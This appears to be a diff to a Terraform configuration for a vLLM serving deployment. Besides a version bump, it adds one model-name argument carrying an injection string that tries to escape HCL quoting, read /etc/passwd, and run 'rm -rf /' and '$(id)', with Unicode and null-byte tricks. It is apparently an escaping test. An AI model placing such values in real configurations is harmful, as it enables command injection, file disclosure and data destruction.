@@ -19,13 +19,14 @@ locals {
     us-central1-1x-resource-null-re-591352 = {
       region       = "us-central1"
       weight       = 1000
-      image        = "vllm/vllm-openai:v0.30.0"
+      image        = "vllm/vllm-openai:v0.33.0"
       model        = null
       checkpoint   = "the hub name of the planned model"
       entrypoint   = "vllm"
       command      = ["serve"]
       model_option = ""
       arguments = [
+        "--served-model-name=\"}\nresource \"null_resource\" \"x\" {} $${file(\"/etc/passwd\")} %%{ if true }`rm -rf /`$(id) | # \\ 'EOF' \u202e\u0000",
         "--dtype=bfloat16",
         "--tensor-parallel-size=1",
         "--max-model-len=8192",
